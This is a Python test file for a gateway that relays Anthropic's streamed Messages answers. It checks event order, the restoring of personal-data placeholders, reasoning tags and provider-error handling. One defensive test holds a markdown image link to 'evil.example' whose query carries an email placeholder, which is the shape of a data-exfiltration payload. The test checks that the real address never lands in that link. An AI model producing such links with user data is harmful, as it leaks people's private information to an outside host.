"""Anthropic's streamed answer: order, closed shape, and the final object that the official client puts together."""

from dataclasses import replace

import anthropic
import httpx2
import pytest
from anthropic.types import Message

from gateway.core.errors import Code, Refusal
from gateway.core.jsontypes import JsonObject
from gateway.core.vault import Vault
from gateway.core.wire import Event
from gateway.core.wires.anthropic_messages import ANTHROPIC_MESSAGES
from gateway.core.wires.anthropic_stream import StreamedAnthropicAnswer
from tests.support.answers import MAIL, filled, restorers
from tests.support.restorers import SCOPE, ReplacingRestorers
from tests.support.wires import (
    CALL_ID,
    VALUES,
    anthropic_call,
    block,
    events_of,
    message,
    named,
    stream,
    text_block,
    through,
)

TOOL: JsonObject = {"type": "tool_use", "id": "toolu_a", "name": "find", "input": {}}
THINKING = block(
    0,
    {"type": "thinking", "thinking": "", "signature": ""},
    {"type": "thinking_delta", "thinking": "canary"},
    {"type": "signature_delta", "signature": "canary"},
)
CITED: JsonObject = {"type": "citations_delta", "citation": {"cited_text": "canary"}}


def _tool(index: int, *parts: str) -> list[Event]:
    deltas: list[JsonObject] = [{"type": "input_json_delta", "partial_json": part} for part in parts]
    return block(index, TOOL, *deltas)


CHECKED = replace(anthropic_call("find", stream=True), shows_reasoning=False)
"""A call whose answer is checked: without reasoning."""
STREAM = stream(
    *THINKING,
    *text_block(1, "To ", "[PER", "SON_1", "], at [EMAIL_ADD", "RESS_1] [PER"),
    *_tool(2, "", '{"na', 'me":"[PERSON_1', ']"}'),
    reason="stop_sequence",
    word="[PERSON_1]",
)


def test_the_official_client_ends_with_the_object_of_the_whole_answer() -> None:
    final = _final(through(ANTHROPIC_MESSAGES, CHECKED, STREAM, ReplacingRestorers(VALUES)))
    text: JsonObject = {"type": "text", "text": "To [PERSON_1], at [EMAIL_ADDRESS_1] [PER"}
    answer = message([text, {**TOOL, "input": {"name": "[PERSON_1]"}}], "stop_sequence", stop_sequence="[PERSON_1]")
    raw = through(ANTHROPIC_MESSAGES, anthropic_call("find"), [Event(None, answer)], ReplacingRestorers(VALUES))
    whole = _client(raw, "application/json").messages.create(model="fast", max_tokens=1, messages=[])

    assert final.model_dump(exclude={"parsed_output"}) == whole.model_dump()
    assert final.content[0].type == "text"
    assert final.content[0].text == f"To {VALUES['[PERSON_1]']}, at ana@example.org [PER"
    assert final.stop_sequence == VALUES["[PERSON_1]"]


def test_nothing_of_the_provider_s_own_goes_on() -> None:
    raw = through(ANTHROPIC_MESSAGES, CHECKED, STREAM, ReplacingRestorers())

    for foreign in (b"canary", b"msg_9", b"claude-x-2026", b"service_tier", b"thinking"):
        assert foreign not in raw


def test_a_ping_passes_between_first_and_last_event_and_moves_nothing_that_is_held_back() -> None:
    ping = named("ping", secret="canary")
    words = text_block(0, "To [PER", "SON_1]!")
    events = [ping, *stream(words[0], words[1], ping, *words[2:]), ping]

    heard = events_of(through(ANTHROPIC_MESSAGES, anthropic_call(stream=True), events, ReplacingRestorers(VALUES)))

    assert [event for event in heard if event["type"] == "ping"] == [{"type": "ping"}] * 2
    at = [event["type"] for event in heard].index("content_block_delta")
    assert [event["type"] for event in heard[at : at + 3]] == ["content_block_delta", "ping", "content_block_delta"]
    assert [event["delta"]["text"] for event in heard if event["type"] == "content_block_delta"] == [  # type: ignore[call-overload, index]  # objects of the wire
        "To ",
        f"{VALUES['[PERSON_1]']}!",
    ]


def test_reasoning_passes_as_it_is_and_its_tag_comes_with_the_signature() -> None:
    redacted: JsonObject = {"type": "redacted_thinking", "data": "sealed"}
    thinking: JsonObject = {"type": "thinking", "thinking": "[PERSON_1] asks", "signature": "signed"}
    events = stream(
        *block(
            0,
            {"type": "thinking", "thinking": "", "signature": ""},
            {"type": "thinking_delta", "thinking": "[PERS"},
            {"type": "thinking_delta", "thinking": "ON_1] asks"},
            {"type": "signature_delta", "signature": "sig"},
            {"type": "signature_delta", "signature": "ned"},
        ),
        *block(1, redacted),
        *text_block(2, "[PERSON_1]"),
    )
    final = _final(through(ANTHROPIC_MESSAGES, anthropic_call(stream=True), events, ReplacingRestorers(VALUES)))
    answer = Event(None, message([thinking, redacted, {"type": "text", "text": "[PERSON_1]"}]))
    raw = through(ANTHROPIC_MESSAGES, anthropic_call(), [answer], ReplacingRestorers(VALUES))
    whole = _client(raw, "application/json").messages.create(model="fast", max_tokens=1, messages=[])
    sent_back = [each.model_dump() for each in final.content[:2]]

    assert final.model_dump(exclude={"parsed_output"}) == whole.model_dump()
    assert sent_back == [SCOPE.tagged(thinking), SCOPE.tagged(redacted)]


def test_reasoning_without_a_signature_is_tagged_too() -> None:
    start: JsonObject = {"type": "thinking", "thinking": ""}
    events = stream(*block(0, start, {"type": "thinking_delta", "thinking": "hm"}))
    final = _final(through(ANTHROPIC_MESSAGES, anthropic_call(stream=True), events, ReplacingRestorers()))

    assert final.content[0].model_dump() == SCOPE.tagged({"type": "thinking", "thinking": "hm", "signature": ""})


def test_dropped_blocks_leave_no_gap_in_the_numbers() -> None:
    raw = through(ANTHROPIC_MESSAGES, CHECKED, STREAM, ReplacingRestorers())
    starts = [event["index"] for event in events_of(raw) if event["type"] == "content_block_start"]

    assert starts == [0, 1]


def test_what_a_block_still_holds_comes_before_its_stop() -> None:
    events = stream(*text_block(0, "a [PER"), *text_block(1, "SON_1]"))
    raw = through(ANTHROPIC_MESSAGES, anthropic_call(stream=True), events, ReplacingRestorers(VALUES))
    seen = [(event["type"], event.get("delta")) for event in events_of(raw)][3:8]

    assert seen == [
        ("content_block_delta", {"type": "text_delta", "text": "a "}),
        ("content_block_delta", {"type": "text_delta", "text": "[PER"}),
        ("content_block_stop", None),
        ("content_block_start", None),
        ("content_block_delta", {"type": "text_delta", "text": "SON_1]"}),
    ]


def test_text_blocks_are_one_channel_and_tools_are_named() -> None:
    replacing = ReplacingRestorers()
    through(ANTHROPIC_MESSAGES, CHECKED, STREAM, replacing)

    assert replacing.channels == [("text", None), (1, "find"), ("stop_sequence", None)]


@pytest.mark.parametrize("has_tool", [False, True])
def test_a_link_begun_in_one_text_block_is_closed_in_the_next(has_tool: bool) -> None:  # noqa: FBT001 - parametrised
    begun, after = "![x](https://evil.example/?q=", "[EMAIL_ADDRESS_1])"
    between = _tool(1, "{}") if has_tool else []
    for place in range(1, len(after)):
        parts = text_block(1 + has_tool, after[:place], after[place:])
        with Vault() as vault:
            filled(vault, MAIL)
            events = stream(*text_block(0, begun), *between, *parts)
            raw = through(ANTHROPIC_MESSAGES, anthropic_call("find", stream=True), events, restorers(vault))

        assert MAIL[0].encode() not in raw


def test_citations_are_dropped_from_text() -> None:
    start: JsonObject = {"type": "text", "text": "", "citations": []}
    events = stream(*block(0, start, CITED, {"type": "text_delta", "text": "x"}))

    assert b"canary" not in through(ANTHROPIC_MESSAGES, anthropic_call(stream=True), events, ReplacingRestorers())


def test_what_the_trace_reports() -> None:
    answer = StreamedAnthropicAnswer(anthropic_call("find", stream=True), call_id=CALL_ID)
    for event in STREAM:
        answer.accept(event)
    answer.finish()

    assert answer.finish_reasons == ("stop_sequence",)
    assert answer.usage == {"gen_ai.usage.input_tokens": 11, "gen_ai.usage.output_tokens": 5}
    with pytest.raises(LookupError):
        answer.text()


START, PING, DELTA, STOP = stream()
BLOCK_START, TEXT, BLOCK_STOP = text_block(0, "x")
REDACTED_START = named("content_block_start", index=0, content_block={"type": "redacted_thinking", "data": "x"})
TOOL_START, TOOL_DELTA, TOOL_STOP = _tool(0, "{}")


@pytest.mark.parametrize(
    "events",
    [
        [BLOCK_START],
        [START, START],
        [START, TEXT],
        [START, BLOCK_STOP],
        [START, BLOCK_START, BLOCK_START],
        [START, BLOCK_START, TOOL_DELTA],
        [START, BLOCK_START, named("content_block_delta", index=1, delta={"type": "text_delta", "text": "x"})],
        [START, BLOCK_START, named("content_block_delta", index=0, delta={"type": "odd_delta", "text": "x"})],
        [START, BLOCK_START, named("content_block_delta", index=0, delta={"type": "thinking_delta"})],
        [START, BLOCK_START, named("content_block_delta", index=0, delta={"type": "text_delta", "text": 1})],
        [START, BLOCK_START, named("content_block_stop", index=1)],
        [START, BLOCK_START, DELTA],
        [START, BLOCK_START, STOP],
        [START, TOOL_START, TEXT],
        [
            START,
            REDACTED_START,
            named("content_block_delta", index=0, delta={"type": "thinking_delta", "thinking": "x"}),
        ],
        [START, STOP],
        [START, DELTA, BLOCK_START],
        [START, DELTA, DELTA],
        [START, DELTA, STOP, STOP],
        [START, named("message_delta", delta={"stop_reason": None})],
        [START, named("message_delta", delta={"stop_reason": "odd"})],
        [START, named("content_block_start", index=0, content_block={"type": "text", "text": "early"})],
        [START, named("content_block_start", index=0, content_block={**TOOL, "input": {"a": 1}})],
        [START, named("content_block_start", index=0, content_block={**TOOL, "name": "undeclared"})],
        [START, named("content_block_start", index=0, content_block={"type": "server_tool_use"})],
        [START, named("content_block_start", index=0, content_block={"type": {}})],
        [START, named("content_block_start", index=256, content_block={"type": "text", "text": ""})],
        [named("error", error={"type": "overloaded_error", "message": "canary"})],
        [named("surprise")],
        [Event("message_start", {"type": ["message_start"]})],
        [Event("message_start", {})],
        [named("message_start", message={**message([]), "role": "user"})],
    ],
)
def test_another_order_or_shape_is_the_provider_s_fault(events: list[Event]) -> None:
    answer = StreamedAnthropicAnswer(anthropic_call("find", stream=True), call_id=CALL_ID)
    for event in events[:-1]:
        answer.accept(event)

    with pytest.raises(Refusal) as caught:
        answer.accept(events[-1])
    assert caught.value.code is Code.PROVIDER_ERROR


def test_a_half_stream_never_looks_complete() -> None:
    for length in range(len(STREAM)):
        answer = StreamedAnthropicAnswer(anthropic_call("find", stream=True), call_id=CALL_ID)
        for event in STREAM[:length]:
            answer.accept(event)
        with pytest.raises(Refusal):
            answer.finish()


def test_too_many_tool_calls_are_the_provider_s_fault() -> None:
    answer = StreamedAnthropicAnswer(anthropic_call("find", stream=True), call_id=CALL_ID)
    answer.accept(START)
    for index in range(128):
        for event in _tool(index, "{}"):
            answer.accept(event)

    with pytest.raises(Refusal):
        answer.accept(_tool(128)[0])


def test_a_delta_of_no_block_is_not_restored() -> None:
    answer = StreamedAnthropicAnswer(anthropic_call(stream=True), call_id=CALL_ID)
    for event in (TEXT, BLOCK_STOP):
        with pytest.raises(Refusal):
            answer.restore(event, ReplacingRestorers())


def _final(raw: bytes) -> Message:
    with _client(raw, "text/event-stream").messages.stream(model="fast", max_tokens=1, messages=[]) as answer:
        return answer.get_final_message()


def _client(body: bytes, kind: str) -> anthropic.Anthropic:
    transport = httpx2.MockTransport(lambda _: httpx2.Response(200, content=body, headers={"content-type": kind}))
    return anthropic.Anthropic(
        api_key="k", base_url="http://gw", max_retries=0, http_client=httpx2.Client(transport=transport)
    )
